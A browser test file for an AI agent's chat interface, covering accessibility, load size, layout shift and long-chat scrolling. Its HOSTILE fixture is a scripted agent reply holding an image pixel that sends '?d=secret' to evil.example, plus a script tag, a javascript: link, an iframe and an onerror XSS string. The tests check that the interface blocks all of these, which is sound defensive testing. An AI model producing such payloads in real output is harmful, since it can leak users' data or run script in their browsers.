// What can be measured of how it looks: accessibility on every page in both themes, how much script a first load fetches, that nothing
// jumps when a card appears, that ten thousand messages scroll, and that nothing an agent writes reaches another host.

import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { offlineModel } from "../../src/agent/models/offline.ts";
import { scriptedModel } from "../../src/agent/models/scripted.ts";
import { routes } from "../../src/wire/http.ts";
import { isAccessible } from "./accessible.ts";
import { drawn, stage, whenArmed } from "./browser.ts";
import { builtPages } from "./server.ts";

const HOSTILE = [
  "# A heading",
  "![pixel](https://evil.example/a.png?d=secret) [a link](https://evil.example/x) <img src='https://evil.example/b.png'> <script>document.title='owned'</script>",
  "<a href='javascript:document.title=1'>press</a> <iframe src='https://evil.example'></iframe> https://evil.example/bare",
  "```js\nconst a = '<img src=x onerror=document.title=1>';\n```",
  "| a | b |\n| - | - |\n| 1 | 2 |",
].join("\n\n");
const offline = offlineModel();
const hostile = scriptedModel(async () => HOSTILE);
const on = stage({
  model: {
    name: offline.name,
    turn: (prompt, running) => {
      const said = prompt.transcript.findLast(({ role }) => role === "person")?.text;
      return (said === "be hostile" ? hostile : offline).turn(prompt, running);
    },
  },
});
const place = (path: string): string => on.server.tree.path(`home/code/${path}`);

async function finished(chat: string): Promise<void> {
  await expect.poll(async () => (await on.server.client.send(routes.chat, { id: chat })).status).not.toBe("running");
}

async function said(text: string): Promise<{ readonly id: string; readonly session: string }> {
  const chat = await on.chat();
  await on.server.client.send(routes.say, { id: chat.id, body: { text } });
  await finished(chat.id);
  return chat;
}

/**
 * Goes somewhere and looks, once the page is drawn and its half second is over: contrast is measured as it is read. What must be scrolled to first
 * stays inert.
 */
async function visit(page: Page, where: string, ready: string): Promise<void> {
  await page.goto(`${on.server.address}/#${where}`);
  await page.locator(ready).first().waitFor();
  await drawn(page);
  await expect.poll(() => page.locator('[data-grants][title^="Ready in a moment"]').count()).toBe(0);
  await isAccessible(page);
}

// First, while there is little to list: what is counted is the pages.
test("the first load of the inbox fetches less than 160 KB in all, and nothing from elsewhere", async () => {
  const { page, context, faults } = await on.open("/inbox");
  const network = await context.newCDPSession(page);
  await network.send("Network.enable");
  await network.send("Network.setCacheDisabled", { cacheDisabled: true });
  const codings = new Set<string | undefined>();
  const fetched: string[] = [];
  page.on("response", (response) => {
    fetched.push(response.url());
    if (/\.(js|css)$/.test(response.url())) codings.add(response.headers()["content-encoding"]);
  });
  let bytes = 0;
  network.on("Network.loadingFinished", ({ encodedDataLength }) => (bytes += encodedDataLength));
  await page.reload({ waitUntil: "networkidle" });
  await page.getByRole("heading", { name: "Inbox" }).waitFor();
  console.log(`first load of the inbox: ${Math.round(bytes / 1024)} KB with all headers`);
  expect(bytes).toBeGreaterThan(50 * 1024);
  expect(bytes).toBeLessThan(160 * 1024);
  expect(codings).toContain("br");
  expect(fetched.join(" ")).not.toMatch(/coloured-code|markdown/);
  expect(faults).toEqual([]);
});

for (const colorScheme of ["light", "dark"] as const) {
  test(`axe finds nothing in a chat, its card and what opens from it, ${colorScheme}`, async () => {
    const chat = await said(`Read ${place("api/package.json")}`);
    const { page, faults } = await on.open("/inbox", { colorScheme, reducedMotion: "reduce" });
    await visit(page, `/chat/${chat.id}`, "[data-ask]");
    await page.getByRole("button", { name: /X-ray/ }).click();
    await page.getByRole("dialog").getByText("package.json").first().waitFor();
    await isAccessible(page);
    await page.keyboard.press("Escape");
    await page.getByRole("button", { name: "More" }).click();
    await page.getByRole("menuitem").first().waitFor();
    await isAccessible(page);
    await page.keyboard.press("Escape");
    await page.getByRole("button", { name: /workspace only/ }).click();
    await page.getByRole("heading", { name: "Mounts" }).waitFor();
    await page.getByRole("button", { name: "Deny", exact: false }).first().click();
    await page.getByText("Denied reading").first().waitFor();
    await isAccessible(page);
    expect(faults).toEqual([]);
  });

  test(`axe finds nothing on a phone, in the card, its sheets and the menu, ${colorScheme}`, async () => {
    const chat = await said("Read vendor/routes.ts");
    const viewport = { width: 360, height: 640 };
    const { page, faults } = await on.open("/inbox", { colorScheme, reducedMotion: "reduce", viewport, isMobile: true, hasTouch: true });
    await visit(page, `/chat/${chat.id}`, "[data-ask]");
    await page.getByRole("button", { name: "more below" }).waitFor();
    await page.getByRole("button", { name: /X-ray/ }).tap();
    await page.getByRole("dialog").getByText("routes.ts").or(page.getByRole("dialog").getByText("src/")).first().waitFor();
    await isAccessible(page);
    await page.keyboard.press("Escape");
    await page.getByRole("button", { name: /Menu/ }).tap();
    await page.getByRole("dialog").getByText("Sessions").waitFor();
    await isAccessible(page);
    await page.keyboard.press("Escape");
    await on.server.client.send(routes.cancel, { id: chat.id });
    expect(faults).toEqual([]);
  });

  test(`axe finds nothing on the other pages, ${colorScheme}`, async () => {
    const chat = await said(`Read ${place("docs/guide.md")}`);
    const hostileChat = await said("be hostile");
    const { page, faults } = await on.open("/inbox", { colorScheme, reducedMotion: "reduce" });
    await visit(page, "/inbox", "[data-ask]");
    await visit(page, `/chat/${hostileChat.id}`, ".prose h1");
    await visit(page, `/session/${chat.session}`, "#outside");
    await visit(page, "/new", "#directory");
    await visit(page, "/models", "#model");
    await on.server.client.send(routes.cancel, { id: chat.id });
    expect(faults).toEqual([]);
  });

  test(`axe finds nothing in the policy, while it is changed, and in the record, ${colorScheme}`, async () => {
    await said("Read README.md");
    const { page, faults } = await on.open("/inbox", { colorScheme, reducedMotion: "reduce" });
    await visit(page, "/policy", "[aria-label=Layers]");
    if ((await page.getByRole("button", { name: "Create one" }).count()) > 0)
      await page.getByRole("button", { name: "Create one" }).click();
    await page.getByLabel("Text of your policy file").fill('{ "read": { "**/guide.md": "deny" } }');
    await page.getByRole("region", { name: "What would change" }).waitFor();
    // The rules, of which there are many, were looked at already.
    await isAccessible(page, '[aria-label="Your policy file"]');
    await isAccessible(page, '[aria-label="What would change"]');
    await visit(page, "/audit", "[aria-label=Timeline] li");
    expect(faults).toEqual([]);
  });
}

test("the built pages hold no inline script and name no other host", async () => {
  const pages = await builtPages();
  const html = readFileSync(join(pages, "index.html"), "utf8");
  expect(html).not.toMatch(/<script(?![^>]*\bsrc=)/);
  expect(html).not.toMatch(/https?:\/\//);
  for (const name of readdirSync(join(pages, "assets")).filter((file) => file.endsWith(".css")))
    expect(readFileSync(join(pages, "assets", name), "utf8")).not.toMatch(/url\(["']?https?:/);
});

test("nothing jumps when a card appears", async () => {
  const chat = await said("What can you read and write?");
  const { page, say } = await on.open(`/chat/${chat.id}`);
  await page.locator(".prose").first().waitFor();
  await drawn(page);
  await page.evaluate(() => {
    const shifts: number[] = [];
    Object.assign(window, { shifts });
    new PerformanceObserver((list) => {
      // Within half a second of a key or a click a shift is the person's own doing; an ask comes later than that.
      for (const entry of list.getEntries()) if ("value" in entry && typeof entry.value === "number") shifts.push(entry.value);
    }).observe({ type: "layout-shift", buffered: false });
  });
  await say(`Read ${place("api/package.json")}`);
  // The buttons that grant are ready half a second after the card last changed.
  await whenArmed(page);
  await drawn(page);
  const shifts: unknown = await page.evaluate(() => Reflect.get(window, "shifts"));
  const sum = Array.isArray(shifts) ? shifts.reduce((total: number, one) => total + Number(one), 0) : Number.NaN;
  console.log(`layout shift while a card appears: ${sum.toFixed(4)}`);
  expect(sum).toBeLessThan(0.1);
});

test("ten thousand messages: the end is there at once, scrolling up fetches the rest, and few of them are in the page", async () => {
  const chat = await on.chat();
  const { store } = on.server.inside();
  const start = Date.now() - 10_000_000;
  for (let number = 0; number < 10_000; number += 1) {
    const common = { id: `message-${number}`, at: start + number * 1000, text: `message number ${number}` };
    const isPerson = number % 2 === 0;
    await store.append(
      chat.id,
      isPerson ? { role: "person", ...common } : { role: "agent", ...common, calls: [], usage: null, error: null },
      "idle",
    );
  }
  console.log(`10,000 messages written in ${Date.now() - start - 10_000_000} ms`);
  const { page, faults } = await on.open(`/chat/${chat.id}`);
  await page.getByText("message number 9999").waitFor();
  const inPage = (): Promise<number> => page.evaluate(() => document.querySelectorAll("[role=log] .py-2").length);
  expect(await inPage()).toBeLessThan(120);
  const list = page.getByRole("log");
  const began = Date.now();
  // Earlier messages come when the top comes near, and move the list down again. Only a place that changes is told to the page: 0, then 1.
  await page.waitForFunction(
    () => {
      const log = document.querySelector("[role=log]");
      if (log !== null) log.scrollTop = log.scrollTop === 0 ? 1 : 0;
      return [...document.querySelectorAll("[role=log] p")].some((one) => one.textContent === "message number 0");
    },
    null,
    { timeout: 0 },
  );
  await page.getByText("message number 0", { exact: true }).waitFor();
  console.log(`to the first of 10,000 messages: ${Date.now() - began} ms`);
  expect(await inPage()).toBeLessThan(120);
  const frames = await list.evaluate(async (element) => {
    const median = async (step: number): Promise<number> => {
      const times: number[] = [];
      let last = performance.now();
      for (let frame = 0; frame < 40; frame += 1) {
        element.scrollTop += step;
        await new Promise(requestAnimationFrame);
        times.push(performance.now() - last);
        last = performance.now();
      }
      return times.sort((a, b) => a - b)[20] ?? Infinity;
    };
    return { still: await median(0), scrolling: await median(900) };
  });
  console.log(`a frame takes ${frames.still.toFixed(1)} ms, scrolling 900 px in it ${frames.scrolling.toFixed(1)} ms`);
  expect(frames.scrolling).toBeLessThan(Math.max(100, 5 * frames.still));
  await page.getByRole("button", { name: "newest" }).click();
  await page.getByText("message number 9999").waitFor();

  // What was searched for is where its chat opens, however far back it is.
  await page.goto(`${on.server.address}/#/search/${encodeURIComponent("NUMBER 4217")}`);
  await page.getByRole("list", { name: "Found" }).getByRole("link").click();
  await page.getByText("message number 4217", { exact: true }).waitFor();
  await expect.poll(() => inWindow(page, "message number 4217")).toBe(true);
  expect(await page.evaluate(() => document.activeElement?.textContent)).toContain("message number 4217");
  expect(await inPage()).toBeLessThan(120);
  expect(faults).toEqual([]);
});

test("a chat that is opened at a message stays there, also where a card waits at its end; a message that is gone leads to the end", async () => {
  const chat = await on.chat();
  const { store } = on.server.inside();
  for (let number = 0; number < 60; number += 1)
    await store.append(
      chat.id,
      { role: "person", id: `word-${number}`, at: Date.now() - 60_000 + number, text: `word number ${number}` },
      "idle",
    );
  await on.server.client.send(routes.say, { id: chat.id, body: { text: `Read ${place("api/package.json")}` } });
  await expect.poll(async () => (await on.server.client.send(routes.chat, { id: chat.id })).status).toBe("waiting_for_input");
  const { page, faults } = await on.open(`/chat/${chat.id}/word-7`);
  await expect.poll(() => inWindow(page, "word number 7")).toBe(true);
  await page.getByRole("button", { name: "newest" }).click();
  await whenArmed(page);
  await page.goto(`${on.server.address}/#/chat/${chat.id}/never-said`);
  await whenArmed(page);
  expect(await inWindow(page, "word number 7")).toBe(false);
  expect(faults).toEqual([]);
});

/** Is this text on the screen, and not above or below it? */
const inWindow = (page: Page, text: string): Promise<boolean> =>
  page.evaluate((wanted) => {
    const found = [...document.querySelectorAll("[role=log] p")].find((one) => one.textContent === wanted)?.getBoundingClientRect();
    return found !== undefined && found.top >= 0 && found.bottom <= innerHeight;
  }, text);

test("nothing an agent writes becomes a link, a picture or a script, or reaches another host", async () => {
  const chat = await said("be hostile");
  const { page, faults } = await on.open(`/chat/${chat.id}`);
  const prose = page.locator(".prose").last();
  await prose.locator("h1").waitFor();
  expect(await prose.locator("a, img, script, iframe, video, audio, object, form").count()).toBe(0);
  // One for each block of code, to copy it, is ours.
  expect(await prose.getByRole("button", { name: "Copy the code" }).count()).toBe(1);
  expect(await prose.locator("button").count()).toBe(await prose.locator("pre").count());
  // Its colours come in pieces of text.
  await prose.locator("pre span", { hasText: "<img src=x onerror=document.title=1>" }).waitFor();
  expect(await prose.innerText()).toContain("[Image blocked: pixel]");
  expect(await page.title()).not.toContain("owned");
  expect(faults).toEqual([]);
});
